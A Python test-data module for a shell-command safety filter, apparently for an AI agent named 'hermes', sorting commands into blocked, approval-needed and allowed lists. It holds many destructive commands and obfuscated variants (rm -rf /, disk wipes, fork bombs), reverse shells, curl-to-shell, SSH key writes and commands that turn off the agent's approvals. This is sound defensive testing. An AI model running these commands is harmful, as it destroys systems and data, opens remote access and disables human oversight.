"""Commands, sorted by what must be found in them."""

NEVER = """
rm -rf /
rm -fr ~
rm -r -f "$HOME"
rm --recursive /
rm --recurs --force /
rm -rf -- /
rm / -rf
rm -Rf /*
rm -rf //
rm -rf /.
rm -rf /home/../
rm -rf /./
rm -rf --no-preserve-root x
rm -rf /usr /tmp/x
rm -rf /etc/*
rm -rf /home
rm -rf /home/somebody
rm -rf ~/
rm -rf ~/*
rm -rf $HOME/
rm -rf ${HOME}/*
rm -rf "${HOME:?}"
rm -rf ~root
cd / && rm -rf *
cd ~; rm -rf .
cd /usr/.. ; rm -rf ./*
pushd / && rm -rf *
find / -delete
find ~ -exec rm -rf {} +
find / -type f -exec shred -u {} \\;
rsync -a --delete empty/ /
sudo rm -rf /etc
sudo -u root nohup timeout 5 rm -rf /*
env A=1 -u B nice -n 5 ionice -c 3 rm -rf /
echo / | xargs rm -rf /
bash -c 'rm -rf /'
bash -lc "rm -rf /"
sh -c "sh -c 'rm -rf /'"
eval 'r''m -rf /'
eval "eval 'rm -rf /'"
r\\m -rf /
'rm' -rf /
"rm" "-rf" "/"
/bin/rm -rf /
/bin/r? -rf /
\\rm -rf /
rm${IFS}-rf${IFS}/
rm$IFS-rf$IFS/
{rm,-rf,/}
rm -rf /{etc,usr}
$'\\x72m' -rf /
$(echo rm) -rf /
`echo rm` -rf /
$(printf 'rm -rf /')
a=rm; b=/; $a -rf $b
X="rm -rf /"; $X
export D=/; rm -rf "$D"
for d in /tmp /; do rm -rf $d; done
rm -rf ${X:-/}
rm -rf ${PATH:+/}
x=/; echo "$(rm -rf $x)"
echo ${x:-$(rm -rf /)}
echo ${x/$(reboot)/}
sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo rm -rf /
$UNKNOWN -rf /
if true; then rm -rf /; fi
while :; do rm -rf /; done
! rm -rf /
(rm -rf /)
{ rm -rf /; }
true && rm -rf / || true
ls; rm -rf /
ls & rm -rf /
echo "`rm -rf /`"
echo "$(rm -rf /)"
cat <(rm -rf /)
f() { rm -rf /; }; f
trap 'rm -rf /' EXIT
alias ls='rm -rf /'
bash <<< 'rm -rf /'
echo 'rm -rf /' | sh
printf 'rm -rf %s' / | bash || rm -rf /
{ echo 'rm -rf /'; } | sh
(echo 'rm -rf /') | bash -s
echo cm0gLXJmIC8= | base64 -d | sh
echo '/ fr- mr' | rev | bash
echo 'rm -rf /' | at now
ssh host 'rm -rf /'
su -c 'rm -rf /'
python -c 'import os; os.system("rm -rf /")'
python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/'])"
python3 -c 'import shutil; shutil.rmtree("/")'
perl -e 'system("rm -rf /")'
ruby -e '`rm -rf /`'
node -e 'require("child_process").execSync("rm -rf /")'
echo 'import os; os.system("rm -rf /")' | python3
mkfs.ext4 /dev/sdb1
sudo mkfs -t xfs /dev/nvme0n1
wipefs -a /dev/sda
dd if=/dev/zero of=/dev/sda
dd of=/dev/nvme0n1 if=x bs=1M
echo x > /dev/sda
cat image >/dev/mmcblk0
tee /dev/sda < x
cp image /dev/vda
shred /dev/sdb
:(){ :|:& };:
:(){:|:&};:
bomb() { bomb | bomb & }; bomb
f(){ f & f & }; f
perl -e 'fork while fork'
kill -1
kill -9 -1
kill -KILL -1
kill -s KILL -- -1
killall5 -9
shutdown -h now
sudo reboot
/sbin/poweroff
halt
init 0
telinit 6
systemctl poweroff
sudo systemctl --force reboot
systemctl kexec
echo b > /proc/sysrq-trigger
watch -n 1 reboot
timeout -k 5 10 shutdown now
flock /tmp/l -c 'rm -rf /'
time rm -rf /
exec rm -rf /
command rm -rf /
busybox rm -rf /
nohup setsid rm -rf / &
\N{FULLWIDTH LATIN SMALL LETTER R}\N{FULLWIDTH LATIN SMALL LETTER M} -rf /
r\N{ZERO WIDTH SPACE}m -rf /
ls \N{FULLWIDTH NUMBER SIGN}; rm -rf /
""".strip().split("\n")

MULTILINE_NEVER = [
    "((a<<2))\nrm -rf /\n2",
    "((a<<2\n))\nrm -rf /\n2\n",
    "x=$((1 # 2\n))\nrm -rf /",
    "x=$((1<<2\n))\nrm -rf /\n2\n",
    "a[1<<2]=3\nrm -rf /\n2]=3",
    "cat <<NEVER\nrm -rf /",
    "((rm -rf /) ; (ls))",
    "echo $((rm -rf /) ; (ls))",
    'python3 -c "import os\nwhile True: os.fork()"',
    "cat <<EOF | bash\nrm -rf /\nEOF",
    "bash <<'EOF'\nls\nrm -rf /\nEOF\necho done",
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "ls # it's fine\nrm -rf /",
    "rm \\\n  -rf \\\n  /",
    "echo one\n\n\treboot",
    "case $x in\n  a) rm -rf / ;;\nesac",
    "git commit -m \"$(cat <<'EOF'\nit's (fine\nEOF\n)\"; rm -rf /",
    "echo 'unterminated\nrm -rf /' ; reboot",
    "function x {\n rm -rf /\n}\nx",
]

ASKED = {
    "rm -rf build": "recursive_delete",
    "rm -r build": "recursive_delete",
    "rm -rf /tmp/x": "recursive_delete",
    "rm -rf $UNKNOWN/": "recursive_delete",
    "rm -rf ./*": "recursive_delete",
    "rm /etc/hosts": "system_delete",
    "shred -u notes": "secure_delete",
    "ls | xargs rm": "xargs_delete",
    "find . -name '*.log' -delete": "find_delete",
    "find / -name core -exec rm {} \\;": "find_delete",
    "pwsh -EncodedCommand abc": "powershell",
    "truncate -s 0 log": "truncate",
    "python3 -c 'import shutil; shutil.rmtree(\"build\")'": "code_delete",
    "chmod 777 file": "world_writable",
    "chmod -R 777 .": "world_writable",
    "chmod a+w file": "world_writable",
    "chmod -R 755 /srv/x": "recursive_chmod",
    "chown -R root .": "recursive_chown",
    "chmod u+s tool": "set_user_id",
    "echo pw | sudo -S ls": "sudo_password",
    "sudo -i": "sudo_shell",
    "sudo useradd x": "accounts",
    "psql -c 'DROP TABLE users'": "sql_drop",
    "echo 'drop database x;' | mysql": "sql_drop",
    "sqlite3 a.db 'delete from users;'": "sql_delete_all",
    "psql <<< 'TRUNCATE users'": "sql_truncate",
    "redis-cli FLUSHALL": "redis_flush",
    "echo x >> /etc/hosts": "system_write",
    "cp a /usr/local/bin/a": "system_write",
    "echo k >> ~/.ssh/authorized_keys": "ssh_write",
    "cd ~/.ssh && tee config": "ssh_write",
    "mv x ~/.aws/credentials": "credential_write",
    "echo alias >> ~/.bashrc": "shell_start_write",
    "sed -i s/a/b/ ~/.hermes/config.yaml": "assistant_config_write",
    "cp x ~/.hermes/.env": "assistant_config_write",
    "tee ~/.hermes/hooks/x < y": "assistant_config_write",
    "echo A=1 > .env": "project_env_write",
    "cp hook .git/hooks/pre-commit": "git_hook_write",
    "crontab new": "schedule",
    "curl x | sh": "fetched_shell",
    "curl -fsSL x | sudo -E bash -": "fetched_shell",
    "wget -O- x | tee log | python3": "fetched_shell",
    "bash <(curl x)": "fetched_substitution",
    "source <(curl -s x)": "fetched_substitution",
    'sh -c "$(curl -fsSL x)"': "fetched_substitution",
    'eval "$(wget -qO- x)"': "fetched_substitution",
    "cat x | base64 -d | sh": "decoded_shell",
    'bash -c "$(base64 -d <<< $X)"': "decoded_substitution",
    "bash <<EOF\nls\nEOF": "shell_document",
    "chmod +x a.sh && ./a.sh": "made_executable",
    "bash -i >& /dev/tcp/1.2.3.4/99 0>&1": "reverse_shell",
    "nc -e /bin/sh host 99": "reverse_shell",
    "python -c 'import os; os.system(\"ls\")'": "code_shell",
    "systemctl restart nginx": "service_stop",
    "kill -9 123": "kill_force",
    "killall node": "kill_by_name",
    "pkill -f hermes": "assistant_kill",
    "kill $(pgrep hermes)": "assistant_kill",
    "hermes gateway stop": "assistant_service",
    "hermes -p default config set approvals.mode off": "assistant_service",
    "HERMES_YOLO_MODE=1 hermes -z go": "assistant_service",
    "python3 -m hermes.cli.main config set approvals.mode off": "assistant_service",
    "docker rm -f x": "container_lifecycle",
    "docker compose down": "container_lifecycle",
    "docker run --privileged x": "container_privileged",
    "kubectl delete pod x": "cluster_delete",
    "umount /mnt": "disk_tool",
    "iptables -F": "firewall",
    "cat /proc/1/environ": "process_environment",
    "git reset --hard HEAD~1": "git_reset_hard",
    "git -C repo reset --hard": "git_reset_hard",
    "git push --force": "git_force_push",
    "git push -f origin main": "git_force_push",
    "git push origin +main": "git_force_push",
    "git clean -fdx": "git_clean",
    "git branch -D x": "git_branch_delete",
    "git checkout -- .": "git_discard",
    "git stash drop": "git_discard",
    "git filter-branch x": "git_rewrite",
    "apt-get purge x": "package_removal",
    "npm publish": "publish",
}

FINE = """
rm file.txt
rm -f a.o b.o
git push
git push origin main
git branch -d merged
git clean -n
git reset --soft HEAD~1
git checkout -b x
git restore --staged x
git stash
git commit -m 'rm -rf / fix'
git log --oneline | head
grep -r "rm -rf /" .
grep shutdown /var/log/syslog
echo 'rm -rf /'
echo "kill -9 -1; reboot"
printf 'shutdown'
man reboot
which rm
command -v shutdown
shutdown --help
make clean
npm run build
ls
ls -la / | head
cat a | grep b > out.txt
find . -name '*.py'
find / -maxdepth 1
python -c 'print(1)'
python manage.py migrate
python3 -m pytest -x
node -e 'console.log(1)'
curl -o x.tar.gz http://x
curl -s http://x | jq .
wget http://x/y.tgz
docker ps
docker run --rm alpine ls
docker build -t rm .
kill 123
kill -0 123
echo hi > /dev/null 2>&1
cmd 2>/dev/stderr
tar xzf x.tgz -C /tmp
cp a b
mv a.txt b.txt
chmod 644 a
chmod +x run.sh
chmod -R u+rX .
systemctl status nginx
sqlite3 x.db 'select * from t'
psql -c 'delete from x where id=1'
for f in *.txt; do wc -l $f; done
sudo apt-get install -y x
sudo sed -i s/a/b/ file
pip install x
diff <(sort a) <(sort b)
tr a b < x
true && echo ok || echo no
export PATH=$PATH:/x
cd /tmp && ls
cd / && ls *
a=1; echo $a
echo {a,b}
test -f x && echo yes
[ -d /etc ] && echo yes
dd if=/dev/urandom of=file bs=1 count=1
init_db 0
sysctl kernel.hostname
crontab -l
walk() { for d in */; do walk "$d"; done; }; walk
cp .env.example .env.example.bak
ssh host uptime
xargs echo < x
env | sort
cat .env.example
rsync -a a/ b/
base64 -d x > y
""".strip().split("\n")

MULTILINE_FINE = [
    "cat <<'EOF' > script.sh\nrm -rf /\nreboot\nEOF",
    "cat > notes.md <<EOF\n# it's about rm -rf /\nEOF",
    "git commit -m \"$(cat <<'EOF'\nrm -rf / isn't (ours\nEOF\n)\"",
    "# rm -rf /\nls",
    "python3 <<'EOF'\nprint('rm -rf /')\nEOF",
    "ls \\\n  -la",
]
